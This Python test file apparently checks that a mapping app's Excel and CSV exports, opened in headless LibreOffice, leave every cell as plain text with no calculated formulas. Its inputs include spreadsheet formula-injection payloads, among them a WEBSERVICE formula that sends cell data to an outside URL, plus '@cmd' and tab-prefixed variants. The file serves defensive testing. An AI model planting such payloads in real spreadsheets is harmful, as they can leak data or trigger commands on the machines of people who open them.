"""Somebody opens the spreadsheets in LibreOffice: every word is text, and nothing in them is calculated."""

import csv
import shutil
import subprocess

import pytest
from defusedxml.ElementTree import parse
from xlsxwriter import Workbook

from mapapp.domain.shapes import ShapeKind
from mapapp.exports import ExportOptions, csv_table, excel
from mapapp.workspace.progress import silent
from tests.exports.datasets import ODD_WORDS, dataset, rows, table
from tests.exports.readers import as_said
from tests.exports.test_exporters import HOSTILE

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
SAID = (*HOSTILE, *ODD_WORDS, '=WEBSERVICE("https://example.org/"&A1)', "\t=1+1", "=1+1;=2+2", "@cmd", "％=1")


def opened(folder, *files):
    """Each file as LibreOffice has it in its memory, written down by it; a CSV as its dialog offers to read it."""
    program = shutil.which("soffice")
    if program is None:
        pytest.skip("needs LibreOffice (Debian's libreoffice-calc-nogui)")
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    words = [program, profile, "--headless", "--convert-to", "fods", "--outdir", str(folder / "seen")]
    for reading, ending in ((), ".xlsx"), (["--infilter=CSV:44,34,76,1"], ".csv"):
        some = [str(file) for file in files if file.suffix == ending]
        subprocess.run([*words, *reading, *some], check=True, capture_output=True, timeout=180)
    return [parse(folder / "seen" / f"{file.stem}.fods").getroot() for file in files]


def formulas(document):
    """What it calculates; a yes or no of a workbook is no formula, though it writes it as one without arguments."""
    found = (cell.get(f"{TABLE}formula") for cell in document.iter(f"{TABLE}table-cell"))
    return [one for one in found if one not in (None, "of:=TRUE()", "of:=FALSE()")]


def texts(document):
    """What stands in the cells, without space: tabs and lines are elements there, or gone."""
    for cell in document.iter(f"{TABLE}table-cell"):
        paragraphs = ["".join(one.itertext()) for one in cell.findall(f"{TEXT}p")]
        if paragraphs:
            yield without_space(as_said("\n".join(paragraphs)))


def without_space(words):
    return "".join(words.split())


@pytest.fixture(scope="module")
def seen(tmp_path_factory):
    folder = tmp_path_factory.mktemp("libreoffice")
    said = [row | {"title": words} for row, words in zip(rows(*[None] * len(SAID)), SAID, strict=True)]
    data = dataset(table(ShapeKind.POINT, said))
    book = excel.write(data, folder / "book.xlsx", ExportOptions(), silent).path
    plain = csv_table.write(data, folder / "plain.csv", ExportOptions(), silent).path
    unsafe, calculated = folder / "unsafe.csv", folder / "calculated.xlsx"
    with unsafe.open("w", newline="") as file:
        csv.writer(file).writerows([["title"], ["=1+1"]])
    with Workbook(calculated) as file:
        file.add_worksheet().write_formula(0, 0, "=1+1")
    names = ("book", "plain", "unsafe", "calculated")
    return dict(zip(names, opened(folder, book, plain, unsafe, calculated), strict=True))


@pytest.mark.parametrize("name", ["book", "plain"])
def test_nothing_is_calculated(seen, name):
    assert formulas(seen[name]) == []


@pytest.mark.parametrize("name", ["book", "plain"])
def test_everything_stands_there_as_it_was_said(seen, name):
    found = set(texts(seen[name]))
    assert {words for words in SAID if without_space(words) not in found} == set()


def test_a_formula_would_be_seen(seen):
    assert len(formulas(seen["calculated"])) == 1
